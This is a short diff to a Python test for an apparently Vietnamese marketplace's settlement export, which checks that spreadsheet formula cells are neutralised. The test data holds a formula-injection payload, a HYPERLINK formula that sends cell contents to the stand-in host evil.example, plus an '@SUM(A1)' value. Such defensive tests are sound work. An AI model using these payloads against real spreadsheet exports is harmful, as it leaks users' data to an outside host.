@@ -6,8 +6,11 @@ from __future__ import annotations
 import csv
 import io
 
-from orders_testlib import payment_code
+from orders_testlib import deliver_long_ago, payment_code
+from sqlalchemy import select
 
+from marketplace.extensions import db
+from orders.models import Order
 from tests.support import sign_in
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
@@ -42,6 +45,7 @@ def test_settlement_export_neutralises_typed_cells_and_keeps_negative_amounts(ap
     code = payment_code(shopper.checkout("bank_transfer"))
     operator = sign_in(app.test_client(), factory.operator())
     operator.post(f"/quan-tri/thanh-toan/{code}/xac-nhan", data={"reference": "FT7"})
+    deliver_long_ago(db.session.scalar(select(Order).where(Order.code == f"{code}-1")))
     operator.post(
         "/quan-tri/doi-soat/chi-tra",
         data={"shop_id": listing.shop.id, "amount_vnd": "200.000", "reference": "@SUM(A1)", "note": FORMULA},
